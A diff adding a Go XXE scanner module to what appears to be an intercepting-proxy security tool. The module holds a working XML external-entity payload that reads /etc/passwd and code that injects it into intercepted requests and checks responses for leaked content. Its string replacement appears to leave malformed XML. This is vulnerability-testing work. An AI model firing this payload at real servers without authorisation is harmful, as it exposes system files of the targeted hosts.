@@ -0,0 +1,68 @@
+package scanner
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"strings"
+
+	"MITM_PROXY/pkg/storage"
+)
+
+type XXEResult struct {
+	IsXML      bool              `json:"is_xml"`
+	Vulnerable bool              `json:"vulnerable"`
+	Details    string            `json:"details"`
+	Findings   []storage.Finding `json:"findings"`
+}
+
+const xxePayload = `<!DOCTYPE foo [
+            <!ELEMENT foo ANY >
+            <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>
+            <foo>&xxe;</foo>`
+
+// ScanXXE injects an external entity into XML bodies and checks whether
+// /etc/passwd leaks into the response.
+func ScanXXE(ctx context.Context, req *http.Request) (*XXEResult, error) {
+	bodyBytes, err := io.ReadAll(req.Body)
+	if err != nil {
+		return nil, fmt.Errorf("ScanXXE read body: %w", err)
+	}
+	req.Body = io.NopCloser(bytes.NewReader(bodyBytes))
+	bodyStr := string(bodyBytes)
+
+	result := &XXEResult{Findings: []storage.Finding{}}
+	if !strings.Contains(bodyStr, "<?xml") {
+		return result, nil
+	}
+	result.IsXML = true
+
+	modifiedBody := strings.Replace(bodyStr, "<?xml", xxePayload, 1)
+	newReq, err := cloneRequest(ctx, req, req.URL.String(), []byte(modifiedBody))
+	if err != nil {
+		return result, nil
+	}
+	resp, respBody, err := send(newReq)
+	if err != nil {
+		return result, nil
+	}
+
+	if strings.Contains(string(respBody), "root:") {
+		result.Vulnerable = true
+		result.Details = "System file /etc/passwd was leaked through XXE"
+
+		reqID, respID := recordEvidence(newReq, resp, respBody)
+		result.Findings = append(result.Findings, storage.Finding{
+			Type:       "xxe",
+			Severity:   "high",
+			Confidence: "firm",
+			Detail:     result.Details,
+			Evidence:   "response contains \"root:\"",
+			RequestID:  reqID,
+			ResponseID: respID,
+		})
+	}
+	return result, nil
+}